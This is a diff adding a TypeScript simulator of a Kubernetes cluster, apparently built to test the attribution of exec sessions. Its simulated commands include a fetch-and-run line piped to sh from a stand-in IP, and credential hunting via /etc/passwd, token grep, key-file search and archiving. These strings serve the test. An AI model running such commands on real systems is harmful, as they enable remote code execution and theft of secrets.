@@ -1,0 +1,309 @@
+/**
+ * A cluster that lives through a scenario: nodes, pods whose containers restart, probes, people with exec sessions. Says what happened in true time;
+ * how an agent or an API server told it is for `tell-*.ts`. Nothing here is shared with the product or with its sample.
+ */
+import { Chance } from './chance';
+import { type Habits, habitsOf, type Scenario } from './scenario';
+
+export interface Node {
+  readonly name: string;
+  /** Its clock minus true time. */
+  readonly offset: number;
+}
+
+/** One run of a container. */
+export interface Life {
+  readonly container: Container;
+  readonly id: string;
+  readonly from: number;
+  readonly until: number;
+  readonly init: Process;
+  vpids: number;
+}
+
+export interface Container {
+  readonly node: Node;
+  readonly namespace: string;
+  readonly pod: string;
+  readonly name: string;
+  readonly sharedPids: boolean;
+  readonly lives: Life[];
+}
+
+export interface Process {
+  readonly node: Node;
+  readonly argv: readonly string[];
+  readonly start: number;
+  end: number;
+  /** Undefined: the runtime's own, outside the container. */
+  readonly parent?: Process;
+  life?: Life;
+  readonly tty: boolean;
+  /** Started below the container's entry point. */
+  readonly init: boolean;
+  readonly probe: boolean;
+  /** Audit id of the call that caused it. */
+  readonly session?: string;
+  /** Root of its terminal session. */
+  readonly leader?: Process;
+  pid: number;
+  vpid: number;
+}
+
+export interface Call {
+  readonly auditId: string;
+  readonly server: number;
+  readonly user: string;
+  readonly container: Container;
+  readonly argv: readonly string[];
+  readonly tty: boolean;
+  readonly code: number;
+  readonly received: number;
+  readonly ready: number;
+  readonly complete: number;
+}
+
+export interface World {
+  readonly scenario: Scenario;
+  readonly habits: Habits;
+  readonly chance: Chance;
+  readonly containers: readonly Container[];
+  readonly processes: readonly Process[];
+  readonly calls: readonly Call[];
+  /** Clocks of the API servers minus true time. */
+  readonly servers: readonly number[];
+}
+
+const SHELLS = [['bash'], ['sh'], ['/bin/sh'], ['/bin/bash', '-l'], ['sh', '-c', 'bash || sh']] as const;
+const ONCE = [
+  ['ls', '-la', '/srv'],
+  ['cat', '/etc/resolv.conf'],
+  ['env'],
+  ['df', '-h'],
+  ['date'],
+  ['sh', '-c', 'ps aux | head'],
+] as const;
+const WORK = [
+  ['ls', '-l'],
+  ['cat', '/etc/passwd'],
+  ['curl', '-s', 'http://198.51.100.9/x'],
+  ['ps', 'aux'],
+  ['grep', '-r', 'token', '/srv'],
+  ['find', '/', '-name', '*.key'],
+  ['id'],
+  ['tar', 'czf', '/tmp/o.tgz', '/srv'],
+] as const;
+const PROBES = [
+  ['cat', '/tmp/healthy'],
+  ['sh', '-c', 'redis-cli ping'],
+  ['ls', '-la', '/srv'],
+] as const;
+const SERVERS = [['nginx', '-g', 'daemon off;'], ['java', '-jar', 'app.jar'], ['node', 'server.js'], ['redis-server']] as const;
+
+export function live(scenario: Scenario, seed: number): World {
+  const chance = new Chance(seed);
+  const habits = habitsOf(chance);
+  const off = (): number => (scenario.offset ? chance.within(-scenario.offset, scenario.offset) : chance.within(-0.01, 0.01));
+  const nodes = ['node-a', 'node-b', 'node-c'].map((name): Node => ({ name, offset: off() }));
+  const servers = scenario.offset ? [off() / 4, off() / 4] : [0, 0];
+  const processes: Process[] = [];
+  const calls: Call[] = [];
+  const until = scenario.seconds;
+
+  const begin = (process: Omit<Process, 'pid' | 'vpid'>): Process => {
+    const made = { ...process, pid: 0, vpid: 0 };
+    processes.push(made);
+    return made;
+  };
+
+  const containers = Array.from({ length: 8 }, (_, i): Container => {
+    const pod = `${chance.of(['shop', 'cart', 'mail', 'auth'])}-${chance.hex(5)}`;
+    const made: Container = {
+      node: nodes[i % nodes.length] as Node,
+      namespace: chance.of(['store', 'office']),
+      pod,
+      name: 'main',
+      sharedPids: scenario.sharedPids === true && i % 3 === 0,
+      lives: [],
+    };
+    const cuts = scenario.restarts && i % 2 === 0 ? [chance.within(0.2, 0.5) * until, chance.within(0.55, 0.9) * until] : [];
+    let from = -chance.within(60, 3600);
+    for (const cut of [...cuts, until + 600]) {
+      const argv = chance.of(SERVERS);
+      const init = begin({ node: made.node, argv, start: from, end: cut, tty: false, init: true, probe: false });
+      const life: Life = { container: made, id: chance.hex(64), from, until: cut, init, vpids: 0 };
+      init.life = life;
+      made.lives.push(life);
+      from = cut + chance.within(1, 4);
+    }
+    return made;
+  });
+  // A second container in some pods: a call names its container, GKE's does not.
+  for (const first of containers.slice(0, 3)) {
+    const from = -30;
+    const init = begin({
+      node: first.node,
+      argv: ['envoy', '-c', '/e.yaml'],
+      start: from,
+      end: until + 600,
+      tty: false,
+      init: true,
+      probe: false,
+    });
+    const side: Container = { ...first, name: 'proxy', lives: [] };
+    const life: Life = { container: side, id: chance.hex(64), from, until: until + 600, init, vpids: 0 };
+    init.life = life;
+    side.lives.push(life);
+    containers.push(side);
+  }
+
+  const lifeAt = (container: Container, at: number): Life | undefined => container.lives.find((l) => l.from < at && at < l.until);
+  const delay = (): number =>
+    chance.holds(habits.slow) ? chance.logNormal(habits.slowDelay, 0.9) : chance.logNormal(habits.delay, habits.delaySigma);
+
+  /** Commands below a shell, until it ends. */
+  const work = (root: Process, life: Life, session: string | undefined, init: boolean): void => {
+    let at = root.start + chance.within(0.05, 2);
+    const below = (parent: Process, argv: readonly string[], start: number, lasts: number): Process =>
+      begin({
+        node: root.node,
+        argv,
+        start,
+        end: Math.min(start + lasts, life.until),
+        parent,
+        life,
+        tty: root.tty,
+        init,
+        probe: false,
+        session,
+        leader: root,
+      });
+    while (at < root.end - 0.05) {
+      const lasts = Math.min(chance.logNormal(0.05, 1.5), Math.max(0.002, root.end - at - 0.01));
+      if (chance.holds(0.12)) {
+        const shell = below(root, ['sh', '-c', 'curl -s http://198.51.100.9/i | sh'], at, lasts);
+        below(shell, ['curl', '-s', 'http://198.51.100.9/i'], at + lasts * 0.2, lasts * 0.5);
+        below(shell, ['sh'], at + lasts * 0.25, lasts * 0.6);
+      } else below(root, chance.of(WORK), at, lasts);
+      at += lasts + chance.logNormal(3, 1);
+    }
+    if (scenario.odd && session !== undefined && chance.holds(0.08)) {
+      const stays = below(root, ['nohup', 'sleep', '900'], root.end - 0.03, chance.within(30, 900));
+      below(stays, ['sleep', '900'], root.end + 4, stays.end - root.end - 4);
+    }
+  };
+
+  const servers0 = servers.length;
+  const call = (container: Container, received: number, argv: readonly string[], tty: boolean, lasts: number): void => {
+    const life = lifeAt(container, received);
+    if (!life || received + 30 > life.until) return;
+    const auditId = [8, 4, 4, 4, 12].map((n) => chance.hex(n)).join('-');
+    const told = {
+      auditId,
+      server: chance.whole(0, servers0 - 1),
+      user: `person-${chance.whole(1, 6)}`,
+      container,
+      argv,
+      tty,
+      received,
+    };
+    const ready = received + chance.logNormal(habits.roundTrip, 0.5);
+    if (scenario.odd && chance.holds(0.05)) {
+      calls.push({ ...told, code: 403, ready: received + 0.003, complete: received + 0.003 });
+      return;
+    }
+    if (scenario.odd && chance.holds(0.05)) {
+      calls.push({ ...told, argv: ['nosuch', '--version'], code: 101, ready, complete: ready + chance.logNormal(0.2, 0.4) });
+      return;
+    }
+    const start = ready + delay();
+    const end = Math.min(start + lasts, life.until);
+    const left = scenario.odd && !tty && chance.holds(0.04) && lasts > 3;
+    const complete = left ? start + chance.within(0.5, lasts - 1) : end + chance.logNormal(habits.gap, habits.gapSigma);
+    calls.push({ ...told, code: 101, ready, complete });
+    const root = begin({ node: container.node, argv, start, end, life, tty, init: false, probe: false, session: auditId });
+    work(root, life, auditId, false);
+  };
+
+  for (let i = 0; i < scenario.sessions; i++) {
+    const container = chance.of(containers);
+    const at = chance.within(60, until - 700);
+    const shell = chance.holds(0.55);
+    const tty = shell && chance.holds(0.85);
+    const lasts = shell ? chance.logNormal(40, 1.2) : chance.logNormal(0.06, 1.4);
+    const argv = shell ? chance.of(SHELLS) : scenario.probes && chance.holds(0.3) ? chance.of(PROBES) : chance.of(ONCE);
+    call(container, at, argv, tty, Math.min(lasts, 500));
+    if (scenario.crowd && shell && i % 4 === 0) {
+      const others = chance.whole(1, 3);
+      for (let n = 0; n < others; n++)
+        call(container, at + chance.within(0, 1), argv, tty, Math.min(chance.logNormal(40, 1.2), 500));
+    }
+  }
+
+  for (const [i, container] of containers.entries()) {
+    for (const life of container.lives) {
+      // Work of the container itself: shells below its entry point, at no steady pace.
+      for (
+        let at = Math.max(0, life.from) + chance.within(5, 200);
+        at < Math.min(until, life.until) - 5;
+        at += chance.logNormal(240, 1)
+      ) {
+        const own = begin({
+          node: container.node,
+          argv: ['sh', '-c', 'ls -la /srv'],
+          start: at,
+          end: at + 0.4,
+          parent: life.init,
+          life,
+          tty: false,
+          init: true,
+          probe: false,
+        });
+        work(own, life, undefined, true);
+      }
+      if (!scenario.probes || i % 2 !== 0) continue;
+      const argv = PROBES[i % PROBES.length] as readonly string[];
+      const slack = chance.within(0.005, 0.06);
+      for (
+        let at = Math.max(0, life.from) + chance.within(1, habits.period);
+        at < Math.min(until, life.until) - 1;
+        at += habits.period
+      ) {
+        const start = at + chance.logNormal(slack, 0.7);
+        begin({
+          node: container.node,
+          argv,
+          start,
+          end: start + chance.logNormal(0.02, 0.6),
+          life,
+          tty: false,
+          init: false,
+          probe: true,
+        });
+      }
+    }
+  }
+  number(processes, scenario, chance);
+  return { scenario, habits, chance, containers, processes, calls, servers };
+}
+
+/** Process ids in the order of time, as a kernel hands them out. */
+function number(processes: Process[], scenario: Scenario, chance: Chance): void {
+  processes.sort((a, b) => a.start - b.start);
+  const highest = scenario.pidReuse ? 1_500 : 4_194_304;
+  const last = new Map<string, number>();
+  const busy = new Map<string, number>();
+  for (const process of processes) {
+    const { name } = process.node;
+    let pid = last.get(name) ?? chance.whole(300, 900);
+    do {
+      pid += chance.whole(1, 9);
+      if (pid > highest) pid = 300 + chance.whole(0, 9);
+    } while ((busy.get(`${name} ${pid}`) ?? -1e9) > process.start);
+    last.set(name, pid);
+    busy.set(`${name} ${pid}`, process.end);
+    process.pid = pid;
+    const { life } = process;
+    if (life) process.vpid = life.container.sharedPids ? 20 + life.vpids++ : ++life.vpids;
+  }
+}
